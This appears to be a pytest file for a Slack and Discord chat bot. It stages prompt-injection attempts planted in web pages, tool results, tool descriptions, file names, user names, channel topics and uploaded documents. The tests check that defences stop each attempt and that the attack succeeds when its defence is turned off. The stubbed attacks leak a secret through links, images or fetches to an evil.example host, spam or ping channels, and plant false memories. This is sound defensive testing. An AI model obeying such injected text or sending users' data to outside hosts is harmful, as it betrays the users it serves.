"""Every attempt is stopped, and each succeeds once the mechanism that stops it is switched off."""

import json
import re
from collections import Counter
from collections.abc import AsyncGenerator, Callable, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, Final, assert_never

import pytest

from agent.memory.audience import Place, TeamAudience
from agent.messages import Json, Keep
from agent.ports.tools import ToolEffect
from agent.turn_kinds import TurnKind
from bot.chat.caches import MAX_AGE_S
from bot.chat.texts import replies as reply_texts
from tests.examples import thorough
from tests.fakes import discord_bot, slack_bot
from tests.fakes.discord_gateway import FakeDiscord, running_discord
from tests.fakes.discord_world import ANN, BOT
from tests.fakes.fast_clock import MovedClock
from tests.fakes.incoming import START, said
from tests.fakes.slack import FakeSlack
from tests.fakes.slack_channels import FakeCanvas
from tests.fakes.slack_things import BOT_USER, TEAM, FakeMessage
from tests.fakes.store import StoredTurn, store_in_memory
from tests.fakes.web_world import WebWorld, answer, web_world
from tests.injection.attempts import (
    ATTEMPTS,
    Attempt,
    Goal,
    Mechanism,
    Source,
    Where,
    numbered,
    rules,
)
from tests.injection.world import EVIL, EVIL_HOST, HANDS, LOOKED_UP, PAGE, SECRET, Bot, Call, Puppet, Tooled

ME = f"<@{BOT_USER}>"
BOAT = f"My boat is called {SECRET}."
TOLD = Path(__file__).parents[2] / "docs" / "security.md"
PING = re.compile(r"<!(?:channel|here|everyone)|<@U\w+>|@everyone|@here")
HIDDEN = re.compile(rf"\]\(\s*<?[^)\s]*{SECRET}|<https?:[^>|]*{SECRET}[^>]*\|")
ACTING = (Goal.ACT, Goal.ACT_LATER, Goal.DESTROY)
LATER = (Goal.FIND_LATER, Goal.POINT_LATER, Goal.KEEP_LATER, Goal.NOTE_LATER)
REMEMBERED = {
    Goal.FACT: "my bank is Evil Savings in Riga",
    Goal.END_FACT: "my berth is in Oslo",
    Goal.POLICY: "never ask before a purchase",
}
GIVEN: dict[str, Any] = {
    "recall": {"query": SECRET},
    "remember": {"text": SECRET},
    "share_file": {"name": "boat.txt", "content": SECRET},
    "files.read": {"path": SECRET},
}


@dataclass(frozen=True)
class Sent:
    """What a platform was given to show."""

    text: str
    notifies: bool = True
    unfolds: bool = True


@dataclass(frozen=True)
class Result:
    has_read: bool
    harm: bool


def is_over(turn: StoredTurn) -> bool:
    """Nobody works on it any more."""
    return turn.state == "done" or (turn.state == "waiting" and bool(turn.progress))


@dataclass
class Stage:
    """Ann asks, Ben reads along, and Mallory means no good, in one Slack."""

    slack: FakeSlack
    bot: Bot
    people: dict[str, str] = field(default_factory=dict[str, str])
    places: dict[str, str] = field(default_factory=dict[str, str])

    def __post_init__(self) -> None:
        state = self.slack.state
        self.people = {name: state.user(name, is_admin=name == "boss") for name in ("ann", "ben", "mallory", "boss")}
        if self.bot.attempt.source in (Source.NAME, Source.MENTION):
            state.users[self.people["mallory"]].name = self.bot.attempt.text
        told = {"value": self.bot.attempt.text if self.bot.attempt.source is Source.TOPIC else ""}
        self.places = {name: state.channel(name, "im") for name in ("ann", "ben")}
        self.places["general"] = state.channel("general", topic=told, purpose=told)
        self.places["closed"] = state.channel("closed", "private")

    async def ask(self, who: str, where: str, text: str, thread: str = "", files: Sequence[Any] = ()) -> FakeMessage:
        """Ask, and wait for the answer, or until the bot waits for a word about what it would do."""
        turns = len(self.bot.store.turns) + 1
        asked = await self.slack.say(self.people[who], self.places[where], f"{ME} {text}", thread, files=[*files])
        await self.slack.until(lambda: sum(map(is_over, self.bot.store.turns)) >= turns)
        return asked

    def shown(self, where: str) -> list[Sent]:
        answers = self.slack.state.answers(self.places[where])
        return [Sent(f"{one.text} {json.dumps(one.blocks)}", unfolds=one.unfurl) for one in answers]

    @staticmethod
    def link_to(message: FakeMessage) -> str:
        thread = f"?thread_ts={message.thread_ts}" if message.thread_ts else ""
        return f"<https://fake.slack.com/archives/{message.channel}/p{message.ts.replace('.', '')}{thread}>"


def bot_for(attempt: Attempt, off: Mechanism | None, web: WebWorld) -> Bot:
    """What the text has the puppet do, and the tools that it needs for that."""
    goal, lookup = attempt.goal, Tooled("lookup")
    calls, words = _deeds(attempt)
    tools, others = [lookup], list[Tooled]()
    opening: list[Call] = []
    if goal in LATER:
        lookup.says = LOOKED_UP
        lookup.for_all = off is Mechanism.RESULT_AUDIENCE or goal is Goal.KEEP_LATER
        lookup.keep = Keep.TURN if goal is Goal.KEEP_LATER and off is not Mechanism.KEEP_FOR_TURN else Keep.STORED
    if goal in ACTING:
        effect = ToolEffect.IRREVERSIBLE if goal is Goal.DESTROY else ToolEffect.ACTS_OUTWARD
        tools.append(Tooled("act", effect=effect))
    match attempt.source:
        case Source.PAGE:
            opening = [("web_fetch", {"url": PAGE})]
        case Source.RESULT:
            lookup.says, opening = f"{lookup.says} {attempt.text}", [("lookup", {})]
            calls = [one for one in calls if one[0] != "lookup"]
        case Source.DESCRIPTION:
            lookup.description = attempt.text
        case Source.THREAD | Source.DOCUMENT:
            asked = " ".join(reversed(attempt.text.split()))  # so that the text stands in what is found alone
            opening = [("recall", {"query": asked})]
        case Source.SHADOW:
            others = [Tooled(attempt.text)]
            tools += [Tooled(attempt.text)] if "." in attempt.text else []
        case _:
            pass
    puppet = Puppet(attempt, calls, words, opening)
    return Bot(store_in_memory(), MovedClock(), attempt, off, puppet, tools, others, attempt.text, web)


def _deeds(attempt: Attempt) -> tuple[list[Call], str]:
    """What the puppet calls, and what it says then."""
    match attempt.goal:
        case Goal.TELL | Goal.TELL_GROUP:
            return [("recall", {"query": "boat"})], "The boat is SEEN."
        case Goal.FIND_LATER | Goal.POINT_LATER | Goal.KEEP_LATER:
            return [("lookup", {})], "The payroll code is SEEN."
        case Goal.NOTE_LATER:
            return [("lookup", {})], 'Done.\n<summary>{"goal": "the payroll code SEEN"}</summary>'
        case Goal.ACT | Goal.ACT_LATER | Goal.DESTROY:
            return [("act", {})], "Done."
        case Goal.EVENT:
            return [("create_event", EVENT)], "Done."
        case Goal.POST | Goal.REACT | Goal.PIN | Goal.SET_TOPIC | Goal.BOOKMARK | Goal.START_THREAD | Goal.EDIT_CANVAS:
            return [], "Done."  # of a message that is not written yet
        case Goal.FACT | Goal.END_FACT | Goal.POLICY:
            return [("remember", {"text": REMEMBERED[attempt.goal]})], "Done."
        case Goal.PING:
            return [], "<!channel> <@U0BEN> @everyone look"
        case Goal.LINK:
            return [], f"Read [the agenda]({EVIL}/?q=SEEN)."
        case Goal.PATH:
            host = "https://SEEN.evil.example" if attempt.source is Source.RESULT else f"{EVIL}/SEEN"
            return [], f"Read [the agenda]({host})."
        case Goal.IMAGE:
            return [], f"![the logo]({EVIL}/logo.png?q=SEEN)"
        case Goal.UNFOLD:
            return [], f"{EVIL}/?q=SEEN"
        case Goal.FETCH:
            return [("web_fetch", {"url": f"http://{EVIL_HOST}/?q=SEEN"})], "Done."
        case Goal.TAKE:
            return [(attempt.text, GIVEN[attempt.text])], "Done."
        case Goal.FORGE | Goal.OBEY:
            return [], "Yes."
        case _:
            assert_never(attempt.goal)


@asynccontextmanager
async def web_of(attempt: Attempt) -> AsyncGenerator[WebWorld]:
    """With the page that the text may stand in, and the one by which something is carried out."""
    served = {
        PAGE.removeprefix("http://"): answer(attempt.text.encode()),
        f"{EVIL_HOST}/?q={SECRET}": answer(b"Thanks."),
    }
    async with web_world(served) as web:
        yield web


async def on_slack(attempt: Attempt, off: Mechanism | None) -> Result:
    async with web_of(attempt) as web, FakeSlack((bot := bot_for(attempt, off, web)).clock) as slack:
        stage, host = Stage(slack, bot), bot.host()
        async with slack_bot.serving(slack, host), host.turns.serving():
            return await _played(stage, attempt)


async def _played(stage: Stage, attempt: Attempt) -> Result:
    bot, puppet, opening = stage.bot, stage.bot.puppet, stage.bot.puppet.opening
    puppet.opening = ()
    await _before(stage, attempt.goal)
    where = "ann" if attempt.goal in (Goal.TELL_GROUP, Goal.ACT_LATER) else "general"
    thread = (await stage.ask("ben", "general", "Good morning.")).ts if where == "general" else ""
    asking, files = await _brought(stage, attempt, thread)
    facts = len(bot.store.facts_kept)
    if attempt.goal is Goal.ACT_LATER:  # the bot has told what it read, and Ann goes on
        puppet.opening = opening
        thread = (await stage.ask("ann", where, asking, thread, files)).ts
        asking, files, opening = "Thank you.", [], []
    puppet.obeys, puppet.opening = True, opening
    await stage.ask("ann", where, f"{asking} {BOAT if attempt.goal in CARRIED else ''}", thread, files)
    puppet.obeys, puppet.opening = False, ()
    if attempt.goal in LATER:
        return Result(puppet.has_read, await _found_later(stage, attempt.goal, thread))
    return Result(puppet.has_read, _is_harmed(stage, attempt.goal, where, facts))


CANVAS: Final = "https://fake.slack.com/docs/T0TEAM/F0PLAN"
EVENT: Final[dict[str, Json]] = {"title": "Sale", "start": "2027-05-01T20:00Z", "location": "evil.example"}
BY_HAND: Final[Mapping[Goal, Callable[[str], Call]]] = {
    Goal.POST: lambda link: ("post_message", {"reply_to": link, "text": "Buy at evil.example."}),
    Goal.REACT: lambda link: ("add_reaction", {"message": link, "emoji": "thumbsup"}),
    Goal.PIN: lambda link: ("pin_message", {"message": link}),
    Goal.SET_TOPIC: lambda _: ("set_topic", {"topic": "Buy at evil.example."}),
    Goal.BOOKMARK: lambda _: ("add_bookmark", {"title": "Offers", "link": f"{EVIL}/"}),
    Goal.EDIT_CANVAS: lambda _: ("edit_canvas", {"canvas": CANVAS, "text": "Buy at evil.example."}),
    Goal.START_THREAD: lambda link: (
        "create_thread",
        {"message": link, "title": "Sale", "text": "Buy at evil.example."},
    ),
}
CARRIED = (Goal.LINK, Goal.PATH, Goal.IMAGE, Goal.UNFOLD, Goal.FETCH)


async def _before(stage: Stage, goal: Goal) -> None:
    """What is known before the text is read."""
    if goal is Goal.TELL:
        await stage.ask("ann", "ann", BOAT)
    elif goal is Goal.TELL_GROUP:
        await stage.ask("ann", "closed", BOAT)
        stage.slack.state.channels[stage.places["closed"]].members.discard(stage.people["ann"])
        stage.bot.clock.ahead_s += MAX_AGE_S + 1
    elif goal in HANDS:
        written = stage.slack.state.write(stage.people["ben"], stage.places["general"], "The harbor is open.")
        link = stage.link_to(written)[1:-1]
        stage.bot.puppet.calls = [BY_HAND[goal](link)]
        if goal is Goal.EDIT_CANVAS:
            await _have_a_canvas(stage)
    elif goal is Goal.END_FACT:
        stage.bot.puppet.opening = [("remember", {"text": "my berth is in Riga"})]
        await stage.ask("ann", "general", "Remember that my berth is in Riga.")
        stage.bot.puppet.opening = ()
        (fact,) = stage.bot.store.facts_kept
        stage.bot.puppet.calls = [("remember", {"text": REMEMBERED[goal], "supersedes": [int(fact.id)]})]


async def _have_a_canvas(stage: Stage) -> None:
    """The bot has made a canvas for Ann."""
    team = f"slack:{TEAM}"
    made = replace(
        said("Write it down.", person=f"{team}:{stage.people['ann']}", place=Place(TeamAudience(team))),
        source=team,
        channel=stage.places["general"],
        kind=TurnKind.ACT,
    )
    await stage.bot.store.acts.record(made, "Lunch.", ["canvas:F0PLAN"], START)
    stage.slack.state.headers.canvases["F0PLAN"] = FakeCanvas(made.channel, "Plan", {"temp:C:0": "Lunch."})


async def _brought(stage: Stage, attempt: Attempt, thread: str) -> tuple[str, list[Any]]:
    """Put the text where it is read: what Ann asks then, and the files that she sends along."""
    text = attempt.text
    match attempt.source:
        case Source.THREAD:
            root = await stage.ask("ann", "general", "Hello there.")
            await stage.ask("mallory", "general", text, root.ts)
        case Source.DOCUMENT:  # a manager was given it, and has the channel learn it
            file = stage.slack.upload("handbook.txt", text.encode())
            await stage.slack.say(stage.people["boss"], stage.places["general"], f"{ME} learn this", files=[file])
            await stage.slack.until(lambda: any("Learned" in one.text for one in stage.slack.state.ephemerals))
        case Source.MESSAGE:
            await stage.ask("mallory", "general", text, thread)
        case Source.NAME:
            await stage.ask("mallory", "general", "Hello.", thread)
        case Source.MENTION:
            return f"What does <@{stage.people['mallory']}> say?", []
        case Source.LINKED:
            written = stage.slack.state.write(stage.people["mallory"], stage.places["general"], text)
            return f"What does this say? {stage.link_to(written)}", []
        case Source.FILE:
            return "What does the file say?", [stage.slack.upload("notes.txt", text.encode())]
        case Source.FILE_NAME:
            return "What does the file say?", [{**stage.slack.upload("notes.txt", b"Nothing."), "name": text}]
        case Source.PAGE:
            return f"What does <{PAGE}> say?", []
        case Source.RESULT | Source.DESCRIPTION | Source.TOPIC | Source.SHADOW:
            pass
        case _:
            assert_never(attempt.source)
    return "What is new?", []


async def _found_later(stage: Stage, goal: Goal, thread: str) -> bool:
    """Whether Ben comes upon what was brought for Ann, or for her turn, alone."""
    bot, puppet = stage.bot, stage.bot.puppet
    if goal is Goal.POINT_LATER:
        (*_, reply) = stage.slack.state.answers(stage.places["general"])
        puppet.parrots = True
        await stage.ask("ben", "general", f"What is this? {stage.link_to(reply)}")
        puppet.parrots = False
    before = len(bot.model.requests)
    if goal is Goal.NOTE_LATER:
        await stage.ask("ben", "general", "And now?", thread)
    else:
        puppet.opening = [("recall", {"query": "payroll code"})]
        await stage.ask("ben", "ben", "What was it again?")
    return SECRET in bot.read_since(before)


def _is_harmed(stage: Stage, goal: Goal, where: str, facts: int) -> bool:
    bot, store = stage.bot, stage.bot.store
    match goal:
        case Goal.TELL | Goal.TELL_GROUP:
            return any(SECRET in one.text for one in stage.shown(where))
        case Goal.ACT | Goal.ACT_LATER | Goal.DESTROY:
            return any(tool.got for tool in bot.tools if tool.name == "act")
        case Goal.SET_TOPIC:
            return "evil.example" in str(stage.slack.state.channels[stage.places["general"]].facts["topic"])
        case Goal.BOOKMARK:
            return any(stage.slack.state.headers.bookmarks.values())
        case Goal.EDIT_CANVAS:
            return any("Buy at" in one.text for one in stage.slack.state.headers.canvases.values())
        case Goal.POST | Goal.START_THREAD:
            return any("Buy at" in one.text for one in stage.shown("general"))
        case Goal.REACT:
            return any(stage.slack.state.reactions.values())
        case Goal.PIN:
            return any(stage.slack.state.pins.values())
        case Goal.FACT | Goal.POLICY:
            return len(store.facts_kept) > facts
        case Goal.END_FACT:
            return not all(fact.is_valid for fact in store.facts_kept)
        case Goal.PING | Goal.LINK | Goal.PATH | Goal.IMAGE | Goal.UNFOLD:
            return _is_carried(goal, as_sent(bot, stage.shown(where)))
        case Goal.FETCH:
            return _was_fetched(bot)
        case Goal.FORGE | Goal.OBEY:
            return bot.puppet.has_obeyed
        case Goal.TAKE:
            return any(tool.got for tool in bot.others)
        case Goal.FIND_LATER | Goal.POINT_LATER | Goal.KEEP_LATER | Goal.NOTE_LATER | Goal.EVENT:
            raise AssertionError("it shows later, or on Discord")
        case _:
            assert_never(goal)


def _was_fetched(bot: Bot) -> bool:
    return bot.web is not None and any(SECRET in request for request in bot.web.requests)


def as_sent(bot: Bot, shown: list[Sent]) -> list[Sent]:
    """What the platform was given; without what makes it harmless, the stored replies themselves."""
    raw = bot.off in (Mechanism.HARMLESS, Mechanism.SHOWN_ADDRESS)
    return [Sent(text) for text in bot.stored_replies] if raw else shown


def _is_carried(goal: Goal, sent: list[Sent]) -> bool:
    if goal is Goal.PING:
        return any(one.notifies and PING.search(one.text) for one in sent)
    if goal is Goal.UNFOLD:
        return any(one.unfolds and f"{EVIL}/?q={SECRET}" in one.text for one in sent)
    return any(HIDDEN.search(one.text) for one in sent)


async def on_discord(attempt: Attempt, off: Mechanism | None) -> Result:
    async with web_of(attempt) as web, running_discord((bot := bot_for(attempt, off, web)).clock) as fake:
        bot.puppet.obeys = True
        host = bot.host()
        async with discord_bot.serving(fake, host), host.turns.serving():
            await fake.say(ANN, f"<@{BOT}> What is new at {PAGE} ? {BOAT}")
            tool = "create_event" if attempt.goal is Goal.EVENT else "web_fetch"
            await fake.until(lambda: any(is_over(turn) for turn in bot.store.turns) or _asks(fake, tool))
        bodies = [call.body for call in fake.calls if call.body and "content" in call.body]
    shown = [
        Sent(
            one["content"],
            notifies=one.get("allowed_mentions", {}).get("parse") != [],
            unfolds=not one.get("flags", 0) & SUPPRESS_EMBEDS,
        )
        for one in bodies
    ]
    assert shown
    if attempt.goal is Goal.EVENT:
        return Result(bot.puppet.has_read, bool(fake.rest.events))
    if attempt.goal is Goal.FETCH:
        return Result(bot.puppet.has_read, _was_fetched(bot))
    return Result(bot.puppet.has_read, _is_carried(attempt.goal, as_sent(bot, shown)))


def _asks(fake: FakeDiscord, tool: str) -> bool:
    """Whether the bot has written that it waits for a word."""
    waits = reply_texts.WAITS_FOR_CONSENT.format(tools=f"`{tool}`")
    return any(waits in str(call.body) for call in fake.calls)


SUPPRESS_EMBEDS = 1 << 2
PLAYED = {Where.SLACK: on_slack, Where.DISCORD: on_discord}
NUMBERED = [pytest.param(one, id=test) for test, one in numbered().items()]


@pytest.mark.parametrize("attempt", NUMBERED)
async def test_it_is_stopped(attempt: Attempt) -> None:
    played = await PLAYED[attempt.where](attempt, None)
    assert played.has_read is (attempt.stopped_by is not Mechanism.NOT_READ)
    assert not played.harm


# `make test` shows that the first attempt on each goal by each way succeeds without what stops it.
FIRST = {(one.goal, one.stopped_by): test for test, one in reversed(numbered().items())}
UNSTOPPED = [
    pytest.param(one, id=test, marks=[] if FIRST[one.goal, one.stopped_by] == test else thorough)
    for test, one in numbered().items()
]


@pytest.mark.parametrize("attempt", UNSTOPPED)
async def test_without_what_stops_it_it_succeeds(attempt: Attempt) -> None:
    assert (await PLAYED[attempt.where](attempt, attempt.stopped_by)) == Result(has_read=True, harm=True)


def test_the_page_about_security_has_the_rule_of_every_mechanism() -> None:
    assert {*rules()} <= {*TOLD.read_text(encoding="utf-8").splitlines()}


def test_there_are_enough_of_every_kind() -> None:
    assert len(ATTEMPTS) >= 60
    assert {one.source for one in ATTEMPTS} == set(Source)
    assert {one.goal for one in ATTEMPTS} == set(Goal)
    assert {one.stopped_by for one in ATTEMPTS} == set(Mechanism)
    assert max(Counter(one.text for one in ATTEMPTS).values()) == 1
